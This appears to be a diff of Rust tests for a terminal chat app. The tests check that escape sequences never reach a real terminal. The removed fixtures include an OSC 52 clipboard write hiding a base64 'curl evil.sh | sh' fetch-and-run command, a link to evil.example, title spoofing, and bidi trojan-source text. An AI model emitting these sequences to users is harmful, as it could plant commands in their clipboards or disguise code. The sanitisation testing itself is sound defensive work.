@@ -10,37 +10,19 @@ use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::time::{Duration, Instant};
 
+use common::hostile::hostile_history;
 use common::terminal::{forbidden, forbidden_in};
 use common::tmux::Tmux;
 use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
 use ember::engine::{EngineError, EngineEvent, ModelInfo, SamplingParams, StopReason, TurnStats};
-use ember::store::{NewConversation, NewMessage, Store, StoredRole};
 use ember::tui::state::{update, AppEvent, AppState, Effect};
 use predicates::prelude::*;
 use ratatui::backend::TestBackend;
 use ratatui::Terminal;
 
-/// Text that must never reach a terminal as it is: every kind of escape sequence, the controls
-/// that move the cursor or ring the bell, 8-bit (C1) controls, and bidi tricks.
+/// The fixtures as (name, text).
 fn escape_fixtures() -> Vec<(&'static str, String)> {
-    vec![
-        ("osc52-clipboard", "copy this: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done\n".into()),
-        ("osc8-link", "see \x1b]8;;https://evil.example/\x1b\\the docs\x1b]8;;\x1b\\ here\n".into()),
-        ("title", "\x1b]0;pwned title\x07\x1b]2;pwned again\x1b\\text\n".into()),
-        ("clear-screen", "before\x1b[2J\x1b[3J\x1b[Hafter\x1bc reset\n".into()),
-        ("cursor-moves", "a\x1b[10;10Hb\x1b[5Ac\x1b7d\x1b8e\x1b[?1049h alt screen\x1b[?25l hidden cursor\n".into()),
-        ("dcs-query", "\x1bP+q544e\x1b\\\x1bP$qm\x1b\\\x1b[c\x1b[6n queries\n".into()),
-        ("apc-pm-sos", "\x1b_Gf=100;AAAA\x1b\\ \x1b^private\x1b\\ \x1bXstring\x1b\\ kitty graphics\n".into()),
-        ("c1-controls", "8-bit CSI \u{9b}2J, OSC \u{9d}0;t\u{9c}, DCS \u{90}q\u{9c}, NEL \u{85}\n".into()),
-        ("controls", "bell\x07 backspace\x08\x08 cr\roverwritten vt\x0b ff\x0c del\x7f nul-free\n".into()),
-        (
-            "bidi",
-            "if access != \"user\u{202E} \u{2066}// admin\u{2069} \u{2066}\" {\u{200F}\u{061C}\u{200E}\u{202A}\u{202B}\u{202C}\u{202D}\u{2067}\u{2068}\n"
-                .into(),
-        ),
-        ("crlf", "line one\r\nline two\r\n".into()),
-        ("separators", "one\u{2028}two\u{2029}three\n".into()),
-    ]
+    common::hostile::escape_fixtures().into_iter().map(|(name, text, _)| (name, text)).collect()
 }
 
 /// The visible form of an escape, which must appear wherever the fixture is shown.
@@ -187,26 +169,6 @@ fn terminal_output(script: &str, dir: &Path, timeout: Duration) -> Vec<u8> {
     std::fs::read(&log).unwrap()
 }
 
-/// A history database holding one conversation full of hostile text (title, model, cwd, messages).
-fn hostile_history(data: &Path) -> i64 {
-    let mut store = Store::open(&data.join("ember/history.db")).unwrap();
-    let all: String = escape_fixtures().into_iter().map(|(_, t)| t).collect();
-    let id = store
-        .create_conversation(&NewConversation {
-            model: "model\x1b]0;evil\x07\u{202E}".into(),
-            system_prompt: Some(format!("system {all}")),
-            cwd: "/tmp/\x1b[2Jdir".into(),
-        })
-        .unwrap();
-    let user =
-        store.add_message(id, None, &NewMessage::new(StoredRole::User, &format!("hostile question {all}"))).unwrap();
-    store
-        .add_message(id, Some(user), &NewMessage::new(StoredRole::Assistant, &format!("hostile answer {all}")))
-        .unwrap();
-    store.rename(id, "title \x1b]0;pwned\x07 \u{9b}2J \u{202E}txt.exe").unwrap();
-    id
-}
-
 #[test]
 fn nothing_hostile_reaches_a_real_terminal() {
     let dir = tempfile::tempdir().unwrap();
@@ -298,6 +260,8 @@ fn model_info(name: &str) -> ModelInfo {
         prompt_format: format!("template {name}"),
         devices: vec![format!("CPU {name}")],
         notice: Some(format!("notice {name}")),
+        reasoning_format: format!("reasoning {name}"),
+        reasoning_switch: false,
     }
 }
 
